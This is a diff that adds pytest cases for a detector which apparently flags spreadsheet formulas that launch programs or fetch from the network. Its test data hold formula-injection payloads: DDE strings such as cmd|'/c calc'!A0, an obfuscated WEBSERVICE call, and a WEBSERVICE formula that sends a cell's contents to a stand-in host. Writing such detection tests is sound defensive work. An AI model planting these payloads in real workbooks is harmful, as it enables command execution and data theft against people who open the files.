@@ -122,6 +122,38 @@ def test_linked_workbook_is_active() -> None:
 
 @pytest.mark.req("B-093")
 @pytest.mark.parametrize(
+    ("formula", "active"),
+    [
+        ('_xlfn.WEBSERVICE("http://a.example/"&amp;A1)', True),
+        ("webservice(A1)", True),
+        ("SUM(1,_xlfn.IMAGE(A1))", True),
+        ("&#87;EBSERVICE(A1)", True),
+        ("cmd|'/c calc'!A0", True),
+        ("'cmd'|'/c calc'!A0", True),
+        ('RTD("a.b",,"c")', True),
+        ('IF(A1="|","WEBSERVICE(x)",SUM(B1:B9))', False),
+        ("'a|b'!A1+1", False),
+        ("MYIMAGE(A1)", False),
+        ("A1*2", False),
+    ],
+)
+def test_formula_that_starts_or_fetches_is_active(formula: str, active: bool) -> None:
+    parts = files.ooxml_parts("xl/workbook.xml", files.XLSX + ".main+xml", "<workbook/>")
+    sheet = (
+        f"<worksheet><sheetData><row><c><f>{formula}</f><v>0</v></c></row></sheetData></worksheet>"
+    )
+    assert facts(files.archive(parts | {"xl/worksheets/sheet1.xml": sheet})) == (active, False)
+
+
+@pytest.mark.req("B-093")
+def test_text_of_a_cell_is_no_formula() -> None:
+    parts = files.ooxml_parts("xl/workbook.xml", files.XLSX + ".main+xml", "<workbook/>")
+    sheet = "<worksheet><c><is><t>WEBSERVICE(cmd|a!b)</t></is></c></worksheet>"
+    assert facts(files.archive(parts | {"xl/worksheets/sheet1.xml": sheet})) == (False, False)
+
+
+@pytest.mark.req("B-093")
+@pytest.mark.parametrize(
     ("action", "active"),
     [
         ("ppaction://program", True),
